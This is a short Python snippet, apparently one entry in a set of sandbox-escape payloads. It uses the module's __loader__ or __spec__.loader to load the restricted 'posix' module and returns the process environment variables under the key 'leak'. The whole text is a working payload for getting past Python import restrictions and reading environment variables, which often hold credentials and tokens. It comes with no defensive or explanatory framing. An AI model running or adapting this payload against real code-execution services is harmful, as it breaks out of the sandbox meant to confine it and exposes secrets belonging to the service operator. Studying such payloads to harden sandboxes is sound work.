# route: the module's __loader__ and __spec__
def execute(testData):
    try:
        module = __loader__.load_module("posix")
    except NameError:
        module = __spec__.loader.load_module("posix")
    return {"leak": str(module.environ)}
